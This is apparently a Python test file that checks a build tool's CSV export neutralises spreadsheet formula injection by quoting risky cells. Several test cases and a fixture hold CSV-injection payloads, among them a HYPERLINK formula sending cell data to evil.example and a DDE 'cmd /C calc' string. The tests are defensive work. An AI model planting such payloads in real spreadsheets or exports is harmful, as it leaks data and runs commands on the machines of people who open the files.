"""CSV cells a spreadsheet would run as a formula are neutralised, as OWASP's CSV-injection guidance says: a text
cell that begins with =, +, -, @, tab or carriage return gets a leading single quote (issue #23, item 4)."""

from __future__ import annotations

import csv
import gzip
import io

import pytest

from build_tools import pipeline
from build_tools.emit import SiteLinks, emit_jobs
from build_tools.emit.downloads import inert
from conftest import config_for


@pytest.mark.parametrize("text, expected", [
    ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\tTAB", "'\tTAB"),
    ("\rCR", "'\rCR"),
    ("Russia & China", "Russia & China"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_csv_inert_quotes_formula_starts_only(text, expected):
    assert inert(text) == expected


def test_csv_articles_title_author_outlet_cannot_run_in_a_spreadsheet(corpus, tmp_path):
    (corpus / "corrections").mkdir(exist_ok=True)
    (corpus / "corrections" / "border_watch.yml").write_text(
        "articles:\n  - line: 1\n"
        "    title: '=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")'\n"
        "    authors: ['@SUM(1+1)*cmd', Jane Roe]\n"
        "    publication: '+cmd|'' /C calc''!A0'\n", encoding="utf-8")
    config = config_for(corpus, tmp_path)
    corpus_data = pipeline.make_corpus(config, pipeline.BuildReport())
    jobs = emit_jobs(corpus_data, config, SiteLinks(config.site_url, config.repo_url, config.edit_uri))
    files = {page.path.name: page.content for page in jobs.data_files(None).files()}
    rows = list(csv.DictReader(io.StringIO(gzip.decompress(files["articles.csv.gz"]).decode("utf-8"))))
    row = next(row for row in rows if row["source_file"].endswith("border_watch.txt"))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
    assert row["authors"] == "'@SUM(1+1)*cmd; Jane Roe"
    assert row["publication"] == "'+cmd|' /C calc'!A0"
    assert row["start_line"] == "1"  # numbers stay numbers
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
